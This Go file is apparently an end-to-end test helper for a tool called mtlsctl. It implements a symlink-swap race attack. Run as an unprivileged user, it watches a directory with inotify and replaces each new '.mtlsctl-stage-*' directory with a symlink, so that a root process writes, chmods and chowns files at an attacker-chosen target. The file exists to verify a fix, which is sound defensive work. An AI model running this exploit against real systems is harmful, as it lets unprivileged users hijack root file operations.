// Command stageattack is the node user of issue 8, item 1, for the e2e
// tests: run as an unprivileged user, it watches a directory with inotify
// and, as soon as a staging directory (.mtlsctl-stage-*) appears in it,
// renames that directory away and puts a symbolic link to another
// directory in its place, so that a root process that goes on using the
// staging path writes, chmods and chowns files in the link's target.
//
// Usage: stageattack WATCHDIR LINKTARGET
//
// It prints "watching WATCHDIR" once the watch is in place, then per
// staging directory "saw NAME" and either "swapped NAME" or "refused NAME:
// ERROR". It exits after 90 seconds at the latest.
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: stageattack WATCHDIR LINKTARGET")
		os.Exit(2)
	}
	dir, target := os.Args[1], os.Args[2]
	time.AfterFunc(90*time.Second, func() { fmt.Println("deadline"); os.Exit(0) })
	fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC)
	if err != nil {
		fmt.Println("inotify:", err)
		os.Exit(1)
	}
	if _, err := syscall.InotifyAddWatch(fd, dir, syscall.IN_CREATE|syscall.IN_MOVED_TO); err != nil {
		fmt.Println("watch:", err)
		os.Exit(1)
	}
	fmt.Println("watching", dir)
	buf := make([]byte, 64<<10)
	for {
		n, err := syscall.Read(fd, buf)
		if err != nil {
			fmt.Println("read:", err)
			os.Exit(1)
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= n; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			raw := buf[off+syscall.SizeofInotifyEvent : off+syscall.SizeofInotifyEvent+int(ev.Len)]
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			name := string(bytes.TrimRight(raw, "\x00"))
			if !strings.HasPrefix(name, ".mtlsctl-stage-") || strings.HasSuffix(name, ".moved") {
				continue
			}
			fmt.Println("saw", name)
			p := filepath.Join(dir, name)
			if err := os.Rename(p, p+".moved"); err != nil {
				fmt.Printf("refused %s: %v\n", name, err)
				continue
			}
			if err := os.Symlink(target, p); err != nil {
				fmt.Printf("refused %s: %v\n", name, err)
				continue
			}
			fmt.Println("swapped", name)
		}
	}
}
